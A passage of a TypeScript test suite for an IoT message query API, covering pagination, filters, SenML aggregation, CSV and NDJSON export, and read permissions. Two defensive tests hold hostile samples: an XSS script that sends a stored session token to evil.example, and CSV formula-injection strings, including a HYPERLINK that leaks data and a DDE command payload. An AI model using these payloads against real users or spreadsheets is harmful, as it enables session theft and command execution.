import { runDurableObjectAlarm } from 'cloudflare:test';
import { env } from 'cloudflare:workers';
import { beforeAll, describe, expect, it } from 'vitest';
import { api, expectProblem, newOrg, newUser, checkedFetch } from './helpers';
import { writeParts } from '../../objects/writer';
import { CHANNEL_KEY, PUBLISHER_KEY, messageWhere, senmlWhere } from '../../workers/query/sql';
import { QuerySchema } from '../../workers/query/params';

/** Publishes over HTTP as the device, then drains the channel actor's outbox into D1/R2. */
async function publish(channel: string, key: string, body: BodyInit, contentType: string, subtopic = '') {
  const r = await api('POST', `/channels/${channel}/messages${subtopic ? `/${subtopic}` : ''}`, { device: key, raw: body, headers: { 'content-type': contentType } });
  if (r.status !== 202) throw new Error(`publish ${r.status} ${JSON.stringify(r.body)}`);
  return r.body.seq as number;
}
const drain = (channel: string) => runDurableObjectAlarm(env.CHANNELS.get(env.CHANNELS.idFromName(channel)));

let t: string, org: string, ch: string, dev: { id: string; key: string }, pubOnly: { id: string; key: string };
const T0 = 1_790_000_000; // seconds

beforeAll(async () => {
  const u = await newUser();
  t = u.token;
  org = (await newOrg(t)).id;
  ch = (await api('POST', `/orgs/${org}/channels`, { token: t, body: { name: 'telemetry' } })).body.id;
  const devs = (await api('POST', `/orgs/${org}/devices/bulk`, { token: t, body: { devices: [{ name: 'sensor' }, { name: 'writer' }] } })).body.items;
  [dev, pubOnly] = devs;
  await api('PUT', `/orgs/${org}/channels/${ch}/devices/${dev.id}`, { token: t, body: {} });
  await api('PUT', `/orgs/${org}/channels/${ch}/devices/${pubOnly.id}`, { token: t, body: { types: ['publish'] } });
  // temperatures 20..25 at T0 + 0..50 s (every 10 s) on lab/temp, humidity on lab/hum, a string, a bool
  for (let i = 0; i < 6; i++) await publish(ch, dev.key, JSON.stringify([{ bn: 'sensor/', bt: T0 + i * 10, n: 'temp', u: 'Cel', v: 20 + i }]), 'application/senml+json', 'lab/temp');
  await publish(ch, dev.key, JSON.stringify([{ bn: 'sensor/', bt: T0, n: 'hum', u: '%RH', v: 40 }, { n: 'state', vs: 'ok, "fine"\nreally' }, { n: 'door', vb: true }]), 'application/senml+json', 'lab/hum');
  await publish(ch, pubOnly.key, '{"cmd":"reboot"}', 'application/json', 'cmd/a');
  await publish(ch, pubOnly.key, new Uint8Array([0, 1, 2, 255]), 'application/octet-stream', 'blob');
  await publish(ch, dev.key, 'plain text', 'text/plain', 'office/x/y');
  expect(await drain(ch)).toBe(true);
});

/** RFC 4180 rows (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [], cell = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  return rows;
}

/** A would-be cursor: base64url of some JSON. */
const b64url = (v: unknown) => btoa(JSON.stringify(v)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
const q = (query: string, path = '') => api('GET', `/channels/${ch}/messages${path}?${query}`, { token: t });

describe('message query API', () => {
  it('reads an encoded / in the subtopic as a level separator (a client generated from the OpenAPI document sends one)', async () => {
    const plain = await q('total=false', '/lab/temp');
    expect(plain.status).toBe(200);
    expect(plain.body.items.length).toBe(6);
    expect((await q('total=false', '/lab%2Ftemp')).body.items).toEqual(plain.body.items);
    expectProblem(await q('', '/lab%2F%2Ftemp'), 400);
    // …and publishes there (on a channel of its own: the others' counts stay), stored under lab/temp.
    const other = (await api('POST', `/orgs/${org}/channels`, { token: t, body: { name: 'encoded' } })).body.id as string;
    const r = await api('POST', `/channels/${other}/messages/lab%2Ftemp`, { token: t, raw: 'x', headers: { 'content-type': 'text/plain' } });
    expect(r.status).toBe(202);
    expect(await drain(other)).toBe(true);
    expect((await api('GET', `/channels/${other}/messages/lab/temp`, { token: t })).body.items).toEqual([expect.objectContaining({ seq: r.body.seq, subtopic: 'lab/temp' })]);
  });

  it('says which stored messages were published with retain', async () => {
    const other = (await api('POST', `/orgs/${org}/channels`, { token: t, body: { name: 'retains' } })).body.id as string;
    for (const retain of [true, false]) expect((await api('POST', `/channels/${other}/messages/state${retain ? '?retain=true' : ''}`, { token: t, raw: String(retain), headers: { 'content-type': 'text/plain' } })).status).toBe(202);
    expect(await drain(other)).toBe(true);
    const items = (await api('GET', `/channels/${other}/messages?order=asc`, { token: t })).body.items as { payload: string; retain?: boolean }[];
    expect(items.map((m) => [m.payload, m.retain])).toEqual([['true', true], ['false', undefined]]);
    // A CSV export says so too, in its own column (empty when not retained).
    const csv = await checkedFetch(`http://edgeflux.test/channels/${other}/messages?order=asc`, { headers: { authorization: `Bearer ${t}`, accept: 'text/csv' } });
    const [header, ...rows] = (await csv.text()).trim().split('\r\n').map((l) => l.split(','));
    const at = header!.indexOf('retain');
    expect(at).toBeGreaterThan(-1);
    expect(rows.map((r) => [r[header!.indexOf('payload')], r[at]])).toEqual([['true', 'true'], ['false', '']]);
  });

  it('lists stored messages newest first, with envelopes, pagination and total', async () => {
    const r = await q('limit=3');
    expect(r.status).toBe(200);
    expect(r.body.total).toBe(10);
    expect(r.body.items.map((m: { seq: number }) => m.seq)).toEqual([10, 9, 8]);
    expect(r.body.items[0]).toMatchObject({ channel: ch, subtopic: 'office/x/y', publisher: dev.id, protocol: 'http', contentType: 'text/plain', payload: 'plain text' });
    expect(r.body.items[1]).toMatchObject({ subtopic: 'blob', size: 4, payloadUrl: `/channels/${ch}/payloads/9` });
    const asc = await q('order=asc&limit=2&offset=1');
    expect(asc.body.items.map((m: { seq: number }) => m.seq)).toEqual([2, 3]);
  });

  it('pages by cursor: next and a Link header until the last page, total left out on request', async () => {
    const first = await q('limit=4&total=false');
    expect(first.body.total).toBeUndefined();
    expect(first.body.items.map((m: { seq: number }) => m.seq)).toEqual([10, 9, 8, 7]);
    expect(typeof first.body.next).toBe('string');
    // The Link header is the same query with the cursor: follow it as it is (with the credential in a header).
    const link = /^<([^>]+)>; rel="next"$/.exec(first.headers.get('link') ?? '');
    expect(new URL(link![1]!).searchParams.get('cursor')).toBe(first.body.next);
    const second = await api('GET', new URL(link![1]!).pathname + new URL(link![1]!).search, { token: t });
    expect(second.body.items.map((m: { seq: number }) => m.seq)).toEqual([6, 5, 4, 3]);
    const last = await q(`limit=4&cursor=${second.body.next}`);
    expect(last.body).toMatchObject({ total: 10, next: null });
    expect(last.body.items.map((m: { seq: number }) => m.seq)).toEqual([2, 1]);
    expect(last.headers.get('link')).toBeNull();
    // A page that ends exactly at the last row says so: no empty page after it.
    expect((await q(`limit=2&cursor=${second.body.next}`)).body.next).toBeNull();
    // An offset page gives a cursor too; the Link leaves the offset and a query-string credential out.
    const byOffset = await api('GET', `/channels/${ch}/messages?order=asc&offset=2&limit=3&authorization=Bearer%20${t}`);
    expect(byOffset.body.items.map((m: { seq: number }) => m.seq)).toEqual([3, 4, 5]);
    const next = new URL(/^<([^>]+)>/.exec(byOffset.headers.get('link')!)![1]!);
    expect([...next.searchParams.keys()].sort()).toEqual(['cursor', 'limit', 'order']);
    expect((await q(next.search.slice(1))).body.items.map((m: { seq: number }) => m.seq)).toEqual([6, 7, 8]);
    // CSV answers carry the Link as well.
    const csv = await checkedFetch(`http://edgeflux.test/channels/${ch}/messages?limit=3`, { headers: { authorization: `Bearer ${t}`, accept: 'text/csv' } });
    expect(csv.headers.get('link')).toContain('rel="next"');
    // The answer depends on Accept, and says so to caches, as it does for Origin.
    for (const res of [csv, await checkedFetch(`http://edgeflux.test/channels/${ch}/messages?aggregation=count`, { headers: { authorization: `Bearer ${t}` } })]) {
      expect(res.headers.get('vary')).toMatch(/\bAccept\b/);
      expect(res.headers.get('vary')).toMatch(/\bOrigin\b/);
    }
    expect((await csv.text()).trim().split('\r\n')).toHaveLength(4);
  });

  it('refuses a cursor it did not give out, or one used with another order, format, an offset or an aggregation', async () => {
    const desc = (await q('limit=2')).body.next as string;
    const senml = (await q('format=senml&limit=2')).body.next as string;
    expect(senml).toEqual(expect.any(String));
    for (const [query, words] of [
      ['cursor=nope', 'not a cursor'],
      [`cursor=${desc.slice(0, -2)}`, 'not a cursor'],
      [`cursor=${b64url(['m', 'desc', -1, 5])}`, 'not a cursor'],
      [`cursor=${b64url(['m', 'desc', 1.5, 5])}`, 'not a cursor'],
      [`cursor=${b64url(['m', 'up', 1, 5])}`, 'not a cursor'],
      [`cursor=${b64url(['s', 'desc', 1, 5])}`, 'not a cursor'],
      [`cursor=${b64url({ seq: 5 })}`, 'not a cursor'],
      [`cursor=${desc}&order=asc`, 'other order'],
      [`cursor=${desc}&format=senml`, 'another format'],
      [`cursor=${senml}`, 'another format'],
      [`cursor=${desc}&offset=3`, 'offset or cursor'],
      [`cursor=${desc}&aggregation=count`, 'aggregations'],
      ['total=maybe', 'total'],
      ['offset=', 'offset must be a whole number'],
      ['limit=', 'limit must be a whole number'],
      ['offset=0x10', 'offset must be a whole number'],
      ['name=t&v=', 'v must be a decimal number'],
      ['name=t&v=0x10', 'v must be a decimal number'],
      ['name=t&v=%20%2021', 'v must be a decimal number'],
    ]) {
      const p = expectProblem(await q(query!), 400);
      expect(p.detail, query).toContain(words);
    }
    // The same cursor with the format it came from works, json sharing the message cursor.
    expect((await q(`cursor=${desc}&format=json`)).status).toBe(200);
    expect((await q(`format=senml&cursor=${senml}`)).status).toBe(200);
  });

  it('filters by subtopic (path or param; exact, #, +), publisher, protocol and time', async () => {
    const seqs = async (query: string, path = '') => ((await q(query, path)).body.items as { seq: number }[]).map((m) => m.seq).sort((a, b) => a - b);
    expect(await seqs('', '/lab/hum')).toEqual([7]);
    expect(await seqs('subtopic=lab/%23')).toEqual([1, 2, 3, 4, 5, 6, 7]);
    // Empty is no filter (a form's empty field, an SDK's `subtopic: ''`), as leaving it out.
    expect(await seqs('subtopic=')).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
    expect(await seqs('', '/lab/%23')).toEqual([1, 2, 3, 4, 5, 6, 7]);
    expect(await seqs('subtopic=%2B/temp')).toEqual([1, 2, 3, 4, 5, 6]);
    expect(await seqs('subtopic=office/%2B/y')).toEqual([10]);
    expect(await seqs('subtopic=office/%2B')).toEqual([]);
    expect(await seqs(`publisher=${pubOnly.id}`)).toEqual([8, 9]);
    expect(await seqs('protocol=mqtt')).toEqual([]);
    const all = (await q('order=asc')).body.items as { created: number }[];
    expect(await seqs(`from=${all[3]!.created}&to=${all[3]!.created}`)).toContain(4);
    expect(await seqs(`from=${new Date(all[9]!.created + 1).toISOString()}`)).toEqual([]);
    expectProblem(await q('subtopic=a/%2B/%23'), 400);
    expectProblem(await q('subtopic=a/b', '/a/b'), 400);
    expect(await seqs('subtopic=', '/lab/hum')).toEqual([7]);
  });

  it('answers JSON lines for Accept: application/x-ndjson (or application/jsonl): the JSON answer\'s items, one per line', async () => {
    const get = (query: string, accept: string) => checkedFetch(`http://edgeflux.test/channels/${ch}/messages?${query}`, { headers: { authorization: `Bearer ${t}`, accept } });
    // As bytes: workerd warns about .text() on a type it does not know as text.
    const lines = async (res: Response) => new TextDecoder().decode(await res.arrayBuffer());
    for (const query of ['order=asc', 'format=senml&limit=3', 'format=json', 'aggregation=count', 'format=senml&aggregation=avg&interval=10s', 'publisher=nobody']) {
      const json = (await q(query)).body.items as unknown[];
      const res = await get(query, 'application/x-ndjson');
      expect(res.status, query).toBe(200);
      expect(res.headers.get('content-type'), query).toBe('application/x-ndjson');
      expect(res.headers.get('vary'), query).toMatch(/\bAccept\b/);
      const text = await lines(res);
      expect(text === '' || text.endsWith('\n'), query).toBe(true);
      expect(text.split('\n').filter(Boolean).map((l) => JSON.parse(l)), query).toEqual(json);
    }
    const jsonl = await get('limit=2', 'application/jsonl');
    expect(jsonl.headers.get('content-type')).toBe('application/jsonl');
    // A page with more after it links the next one, as JSON and CSV do; following the links reads every message once.
    expect(jsonl.headers.get('link')).toContain('rel="next"');
    const seen: number[] = [];
    let url: string | undefined = `http://edgeflux.test/channels/${ch}/messages?order=asc&limit=4`;
    while (url) {
      const res = await checkedFetch(url, { headers: { authorization: `Bearer ${t}`, accept: 'application/x-ndjson' } });
      seen.push(...(await lines(res)).split('\n').filter(Boolean).map((l) => (JSON.parse(l) as { seq: number }).seq));
      url = /^<([^>]+)>/.exec(res.headers.get('link') ?? '')?.[1];
    }
    expect(seen).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
    // JSON stays the default, and a problem is still problem JSON.
    expect((await get('', 'application/json, application/x-ndjson')).headers.get('content-type')).toContain('application/json');
    const bad = await get('limit=0', 'application/x-ndjson');
    expect(bad.status).toBe(400);
    expect(bad.headers.get('content-type')).toContain('application/problem+json');
  });

  it('returns resolved SenML records with value comparators and vs/vb', async () => {
    const r = await q('format=senml&name=sensor/temp&v=23&comparator=ge&order=asc');
    expect(r.body.total).toBe(3);
    expect(r.body.items.map((x: { value: number }) => x.value)).toEqual([23, 24, 25]);
    expect(r.body.items[0]).toMatchObject({ channel: ch, name: 'sensor/temp', unit: 'Cel', time: T0 + 30, subtopic: 'lab/temp', publisher: dev.id });
    for (const [cmp, n] of [['eq', 1], ['lt', 3], ['le', 4], ['gt', 2]] as const) expect((await q(`format=senml&name=sensor/temp&v=23&comparator=${cmp}`)).body.total).toBe(n);
    expect((await q('format=senml&vs=ok, "fine"%0Areally')).body.items[0]).toMatchObject({ name: 'sensor/state', stringValue: 'ok, "fine"\nreally' });
    expect((await q('format=senml&vb=true')).body.items[0]).toMatchObject({ name: 'sensor/door', boolValue: true });
    expect((await q(`format=senml&name=sensor/temp&from=${(T0 + 15) * 1000}&to=${(T0 + 35) * 1000}`)).body.total).toBe(2);
  });

  it('returns JSON documents parsed, and binary payloads from R2', async () => {
    const r = await q('format=json');
    expect(r.body.items).toEqual([expect.objectContaining({ seq: 8, payload: { cmd: 'reboot' }, contentType: 'application/json' })]);
    const res = await checkedFetch(`http://edgeflux.test/channels/${ch}/payloads/9`, { headers: { authorization: `Bearer ${t}` } });
    expect(res.headers.get('content-type')).toBe('application/octet-stream');
    expect([...new Uint8Array(await res.arrayBuffer())]).toEqual([0, 1, 2, 255]);
    expectProblem(await api('GET', `/channels/${ch}/payloads/999`, { token: t }), 404);
  });

  it('lists as format=json every document the channel checked as application/json, however its type was written', async () => {
    const other = (await api('POST', `/orgs/${org}/channels`, { token: t, body: { name: 'json-types' } })).body.id as string;
    const types = ['application/json', 'Application/JSON', 'application/json; charset=utf-8', 'application/json ; charset=UTF-8', 'APPLICATION/JSON;charset=utf-8'];
    await api('PUT', `/orgs/${org}/channels/${other}/devices/${dev.id}`, { token: t, body: {} });
    for (const type of types) await publish(other, dev.key, JSON.stringify({ type }), type);
    // Not JSON documents: another type that merely starts alike, and text.
    await publish(other, dev.key, '{"x":1}', 'application/jsonl');
    await publish(other, dev.key, 'plain', 'text/plain');
    expect(await drain(other)).toBe(true);
    const r = await api('GET', `/channels/${other}/messages?format=json&order=asc`, { token: t });
    expect(r.status).toBe(200);
    expect(r.body.items.map((i: { payload: { type: string } }) => i.payload.type)).toEqual(types);
    expect(r.body.total).toBe(types.length);
  });

  it('serves a payload a device published as HTML so that it can never run as a page on the console\'s origin', async () => {
    const other = (await api('POST', `/orgs/${org}/channels`, { token: t, body: { name: 'html' } })).body.id as string;
    const html = '<script>fetch("https://evil.example/?" + localStorage["edgeflux.session"])</script>';
    const sent = await api('POST', `/channels/${other}/messages`, { token: t, raw: html, headers: { 'content-type': 'text/html' } });
    expect(sent.status).toBe(202);
    expect(await drain(other)).toBe(true);
    // A plain link, as a victim would open it (the credential in the query).
    const res = await checkedFetch(`http://edgeflux.test/channels/${other}/payloads/${sent.body.seq}?authorization=${encodeURIComponent(`Bearer ${t}`)}`);
    expect(res.status).toBe(200);
    expect(await res.text()).toBe(html); // byte for byte, with its type, for the SDK and curl…
    expect(res.headers.get('content-type')).toMatch(/^text\/html/);
    // …but saved, not shown; never sniffed; and sandboxed with nothing allowed if shown anyway.
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+"$/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
  });

  it('aggregates SenML values into time buckets', async () => {
    const agg = async (a: string, interval?: string) => (await q(`format=senml&name=sensor/temp&aggregation=${a}&order=asc${interval ? `&interval=${interval}` : ''}`)).body.items;
    expect(await agg('avg')).toEqual([{ time: T0 * 1000, name: 'sensor/temp', unit: 'Cel', value: 22.5, count: 6 }]);
    // T0 s is a whole multiple of 20 s, so the buckets start at T0, T0+20 s, T0+40 s.
    expect((await agg('min', '20s')).map((b: { time: number; value: number; count: number }) => [b.time - T0 * 1000, b.value, b.count])).toEqual([[0, 20, 2], [20_000, 22, 2], [40_000, 24, 2]]);
    const maxes = await agg('max', '1m');
    expect(maxes.reduce((s: number, b: { count: number }) => s + b.count, 0)).toBe(6);
    expect(Math.max(...maxes.map((b: { value: number }) => b.value))).toBe(25);
    expect((await agg('sum')).at(0).value).toBe(135);
    expect((await agg('count', '10s')).map((b: { count: number }) => b.count)).toEqual([1, 1, 1, 1, 1, 1]);
    expect((await q('aggregation=count')).body.items[0].value).toBe(10);
    expectProblem(await q('aggregation=avg'), 400); // needs format=senml
    expectProblem(await q('format=senml&aggregation=avg&interval=5x'), 400);
    expectProblem(await q('interval=1h'), 400);
  });

  it('aggregates per name and unit: values of one name in other units are never mixed into one bucket', async () => {
    const other = (await api('POST', `/orgs/${org}/channels`, { token: t, body: { name: 'units' } })).body.id as string;
    await api('PUT', `/orgs/${org}/channels/${other}/devices/${dev.id}`, { token: t, body: {} });
    // One sensor, first reporting in Cel, then (a firmware update) in K; and a string record of the same name.
    await publish(other, dev.key, JSON.stringify([{ bn: 'room/', bt: T0, n: 'temp', u: 'Cel', v: 20 }, { n: 'temp', u: 'Cel', v: 22, t: 10 }, { n: 'temp', u: 'K', v: 300, t: 20 }, { n: 'temp', vs: 'sensor fault', t: 30 }]), 'application/senml+json');
    expect(await drain(other)).toBe(true);
    const agg = async (query: string) => (await api('GET', `/channels/${other}/messages?format=senml&name=room/temp&order=asc&${query}`, { token: t })).body.items;
    expect(await agg('aggregation=avg')).toEqual([
      { time: T0 * 1000, name: 'room/temp', unit: 'Cel', value: 21, count: 2 },
      { time: (T0 + 20) * 1000, name: 'room/temp', unit: 'K', value: 300, count: 1 },
    ]);
    expect(await agg('aggregation=max&interval=1h')).toEqual([
      { time: Math.floor(T0 / 3600) * 3_600_000, name: 'room/temp', unit: 'Cel', value: 22, count: 2 },
      { time: Math.floor(T0 / 3600) * 3_600_000, name: 'room/temp', unit: 'K', value: 300, count: 1 },
    ]);
    // Counting: the record without a unit has a bucket of its own too, with no unit (starting at its time, T0 + 30 s).
    expect((await agg('aggregation=count')).map((b: { time: number; unit?: string; count: number }) => [b.time - T0 * 1000, b.unit, b.count])).toEqual([[0, 'Cel', 2], [20_000, 'K', 1], [30_000, undefined, 1]]);
    // The CSV says the unit in its own column (empty for none).
    const csv = await checkedFetch(`http://edgeflux.test/channels/${other}/messages?format=senml&name=room/temp&aggregation=sum&order=asc`, { headers: { authorization: `Bearer ${t}`, accept: 'text/csv' } });
    const [header, ...rows] = (await csv.text()).trim().split('\r\n').map((l) => l.split(','));
    expect(header).toEqual(['time', 'name', 'value', 'count', 'unit']);
    expect(rows.map((r) => [r[2], r[4]])).toEqual([['42', 'Cel'], ['300', 'K']]);
  });

  it('exports CSV with a header and RFC 4180 quoting', async () => {
    const res = await checkedFetch(`http://edgeflux.test/channels/${ch}/messages?format=senml&vs=ok, "fine"%0Areally`, { headers: { authorization: `Bearer ${t}`, accept: 'text/csv' } });
    expect(res.headers.get('content-type')).toContain('text/csv');
    const text = await res.text();
    const [header] = text.split('\r\n');
    expect(header).toBe('seq,time,subtopic,publisher,name,unit,value,stringValue,boolValue,dataValue,sum,updateTime,channel');
    expect(text).toContain('"ok, ""fine""\nreally"');
  });

  it('exports CSV that a spreadsheet opens as data: a device\'s text that starts like a formula is never run as one', async () => {
    const other = (await api('POST', `/orgs/${org}/channels`, { token: t, body: { name: 'formulas' } })).body.id as string;
    await api('PUT', `/orgs/${org}/channels/${other}/devices/${dev.id}`, { token: t, body: {} });
    const link = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    await publish(other, dev.key, link, 'text/plain', 'lab');
    await publish(other, dev.key, '-2+3', 'text/plain', '=cmd');
    await publish(other, dev.key, JSON.stringify([{ bn: 'dev/', bt: T0, n: 'state', u: "=cmd|' /C calc'!A0", vs: '@SUM(1+1)' }, { n: 'temp', v: -3, t: 1 }, { n: 'raw', vd: '-_8', t: 2 }]), 'application/senml+json', 'lab');
    expect(await drain(other)).toBe(true);
    const csv = async (query: string) => {
      const res = await checkedFetch(`http://edgeflux.test/channels/${other}/messages?order=asc&${query}`, { headers: { authorization: `Bearer ${t}`, accept: 'text/csv' } });
      const [header, ...rows] = parseCsv(await res.text());
      return rows.map((r) => Object.fromEntries(header!.map((k, i) => [k, r[i]])));
    };
    const messages = await csv('');
    // Text a device chose (payload, subtopic) that Excel or Sheets would evaluate gets a leading ' (shown, not run).
    expect(messages.map((m) => [m.subtopic, m.payload])).toEqual([
      ['lab', `'${link}`],
      ["'=cmd", "'-2+3"],
      ['lab', expect.stringContaining('"u":"=cmd')], // a JSON document starts with [: no formula
    ]);
    const records = await csv('format=senml');
    expect(records.map((r) => [r.name, r.unit, r.value, r.stringValue, r.dataValue])).toEqual([
      ['dev/state', "'=cmd|' /C calc'!A0", '', "'@SUM(1+1)", ''],
      ['dev/temp', '', '-3', '', ''], // a number stays a number
      ['dev/raw', '', '', '', '-_8'], // base64url, as stored
    ]);
    // JSON keeps every value exactly as stored.
    expect((await api('GET', `/channels/${other}/messages?order=asc&limit=1`, { token: t })).body.items[0].payload).toBe(link);
  });

  it('answers CSV with one fixed header per kind of answer, holding every field of the JSON answer', async () => {
    const headers = new Set<string>();
    for (const query of ['', 'format=json', 'format=senml', 'subtopic=blob', 'format=senml&name=sensor/door', 'aggregation=count', 'format=senml&aggregation=avg&interval=10s', 'publisher=nobody', 'format=senml&publisher=nobody']) {
      const json = await q(query);
      const res = await checkedFetch(`http://edgeflux.test/channels/${ch}/messages?${query}`, { headers: { authorization: `Bearer ${t}`, accept: 'text/csv' } });
      const [header, ...rows] = parseCsv(await res.text());
      headers.add(header!.join(','));
      expect(rows, query).toHaveLength(json.body.items.length);
      json.body.items.forEach((item: Record<string, unknown>, i: number) => {
        // every field of the JSON item is a column, with the same value
        for (const [k, v] of Object.entries(item)) expect(rows[i]![header!.indexOf(k)], `${query} ${k}`).toBe(typeof v === 'object' ? JSON.stringify(v) : String(v));
        expect(rows[i]).toHaveLength(header!.length);
      });
    }
    // messages and json share one header, SenML has its own, aggregations theirs: three in all.
    expect(headers.size).toBe(3);
  });

  it('authorizes reads: subscribe-connected device and viewer yes; publish-only device no; strangers see nothing', async () => {
    expect((await api('GET', `/channels/${ch}/messages`, { device: dev.key })).status).toBe(200);
    expectProblem(await api('GET', `/channels/${ch}/messages`, { device: pubOnly.key }), 403);
    const viewer = await newUser('v');
    await api('POST', `/orgs/${org}/members`, { token: t, body: { email: viewer.email, role: 'viewer' } });
    expect((await api('GET', `/channels/${ch}/messages`, { token: viewer.token })).body.total).toBe(10);
    const stranger = await newUser('s');
    expectProblem(await api('GET', `/channels/${ch}/messages`, { token: stranger.token }), 404);
    expectProblem(await api('GET', `/channels/${ch}/payloads/9`, { token: stranger.token }), 404);
    expectProblem(await api('GET', `/channels/${ch}/messages`), 401);
  });

  it('rejects bad parameters with problem+json naming them', async () => {
    expect(expectProblem(await q('limit=5000'), 400).detail).toContain('limit');
    expect(expectProblem(await q('comparator=like'), 400).detail).toContain('comparator');
    expect(expectProblem(await q('format=xml'), 400).detail).toContain('format');
    expect(expectProblem(await q('valeu=3'), 400).detail).toMatch(/valeu|unrecognized/i);
    expect(expectProblem(await q('from=yesterday'), 400).detail).toContain('from');
    // Seconds since the epoch (Mainflux's unit, date +%s) read as ms would name January 1970: from matched
    // everything, to nothing, silently. No stored time can be there (created is now; SenML times are ≥ 2**28 s).
    const seconds = expectProblem(await q(`from=${T0}`), 400).detail;
    expect(seconds).toContain('from');
    expect(seconds).toContain(`${T0}000`);
    expectProblem(await q(`format=senml&to=${T0 + 60}`), 400);
    expect((await q(`from=${T0}000`)).status).toBe(200);
    expect((await q('from=0&to=999')).status).toBe(200); // the start of time stays a valid bound
    expectProblem(await q('limit=1&limit=2'), 400);
    // SenML filters on a message listing would filter nothing: refused, not ignored.
    for (const f of ['name=temp', 'v=1', 'vs=zzz', 'vb=true', 'vd=AQ', 'format=json&name=temp', 'aggregation=count&name=temp']) expect(expectProblem(await q(f), 400).detail, f).toContain('format=senml');
    expect(expectProblem(await q('format=senml&comparator=gt'), 400).detail).toContain('comparator compares v');
    expect(expectProblem(await q('format=senml&vd=!!'), 400).detail).toContain('base64url');
    expect(expectProblem(await q('format=senml&vd=AQ%3D%3D'), 400).detail).toContain('padding');
    expect((await q('format=senml&vd=AQ')).status).toBe(200);
    expect((await q('format=senml&v=0&comparator=gt')).body.items.length).toBeGreaterThan(0);
  });

  it('uses the indexes for its main query shapes', async () => {
    const plan = async (sql: string, ...params: unknown[]) => JSON.stringify((await env.DB.prepare(`EXPLAIN QUERY PLAN ${sql}`).bind(...params).all()).results);
    const r = `SELECT r.seq, p.publisher FROM senml_rows r JOIN publisher_keys p ON p.key = r.pub WHERE r.ch = ${CHANNEL_KEY}`;
    // The message listing's own SQL (as listPage builds it) for its filters.
    const page = (query: Record<string, string>, subtopic?: string) => {
      const parsed = QuerySchema.parse(query);
      const w = messageWhere(ch, parsed, subtopic);
      const after = parsed.cursor ? w.after(parsed.cursor) : { sql: '', params: [] };
      return plan(`SELECT m.seq, p.publisher FROM ${w.from} JOIN publisher_keys p ON p.key = m.pub WHERE ${w.sql}${after.sql} ORDER BY ${w.orderBy('DESC')} LIMIT 100`, ...w.params, ...after.params);
    };
    // A cursor page seeks to the cursor on the index the listing reads.
    const cursor = b64url(['m', 'desc', 1_790_000_000_000, 500]);
    expect(await page({ cursor })).toMatch(/(INDEX sqlite_autoindex_message_rows_1|PRIMARY KEY) \(ch=\? AND seq<\?\)/);
    expect(await page({ cursor }, 'a')).toMatch(/messages_channel_subtopic \(ch=\? AND subtopic=\? AND seq<\?\)/);
    expect(await page({ cursor, publisher: 'dev' })).toMatch(/messages_channel_publisher \(ch=\? AND pub=\? AND created<\?\)/);
    expect(await page({})).toMatch(/SEARCH m USING (COVERING )?(INDEX sqlite_autoindex_message_rows_1|PRIMARY KEY) \(ch=\?\)/);
    expect(await page({}, 'a')).toContain('messages_channel_subtopic');
    // A time range seeks the seq range (primary key or subtopic index), not a scan from the newest message.
    expect(await page({ from: '1', to: '2' })).toMatch(/SEARCH m USING (COVERING )?(INDEX sqlite_autoindex_message_rows_1|PRIMARY KEY) \(ch=\? AND seq>\? AND seq<\?\)/);
    expect(await page({ to: '2' }, 'a')).toMatch(/messages_channel_subtopic \(ch=\? AND subtopic=\? AND seq<\?\)/);
    // A publisher takes its own index, with or without a time range.
    expect(await page({ publisher: 'dev' })).toMatch(/SEARCH m USING INDEX messages_channel_publisher \(ch=\? AND pub=\?\)/);
    expect(await page({ publisher: 'dev', from: '1', to: '2' })).toMatch(/messages_channel_publisher \(ch=\? AND pub=\? AND created>\? AND created<\?\)/);
    const records = (query: Record<string, string>) => {
      const parsed = QuerySchema.parse({ format: 'senml', ...query });
      const w = senmlWhere(ch, parsed, undefined);
      const after = parsed.cursor ? w.after(parsed.cursor) : { sql: '', params: [] };
      return plan(`SELECT r.seq, p.publisher FROM ${w.from} JOIN publisher_keys p ON p.key = r.pub WHERE ${w.sql}${after.sql} ORDER BY r.time DESC, r.seq DESC, r.idx DESC LIMIT 100`, ...w.params, ...after.params);
    };
    const senmlCursor = b64url(['s', 'desc', 1_790_000_000.5, 40, 2]);
    expect(await records({ cursor: senmlCursor, publisher: 'dev' })).toMatch(/senml_channel_publisher_time \(ch=\? AND pub=\? AND time<\?\)/);
    expect(await records({ cursor: senmlCursor, name: 'x' })).toMatch(/senml_channel_name_time \(ch=\? AND name=\? AND time<\?\)/);
    expect(await records({ publisher: 'dev', from: '1', to: '2' })).toMatch(/senml_channel_publisher_time \(ch=\? AND pub=\? AND time>\? AND time<\?\)/);
    // Named, not left to the planner: without statistics SQLite's choice depends on the data (at 1 M records it took the time index).
    expect(senmlWhere(ch, QuerySchema.parse({ format: 'senml', publisher: 'dev' }), undefined).from).toContain('INDEXED BY senml_channel_publisher_time');
    expect(messageWhere(ch, QuerySchema.parse({ publisher: 'dev' }), undefined).from).toContain('INDEXED BY messages_channel_publisher');
    expect(await records({ name: 'x', from: '1', to: '2' })).toMatch(/senml_channel_name_time \(ch=\? AND name=\? AND time>\? AND time<\?\)/);
    expect(await plan(`${r} AND r.name = ? AND r.time >= ? ORDER BY r.time`, ch, 'x', 0)).toContain('senml_channel_name_time');
    expect(await plan(`${r} AND r.time >= ? ORDER BY r.time`, ch, 0)).toMatch(/senml_channel_time|senml_channel_name_time/);
    expect(await plan(`${r} AND r.pub = ${PUBLISHER_KEY} AND r.time >= ? ORDER BY r.time`, ch, 'dev', 0)).toContain('senml_channel_publisher_time');
    // The views with the ids, for reading the database by hand, go through the same indexes.
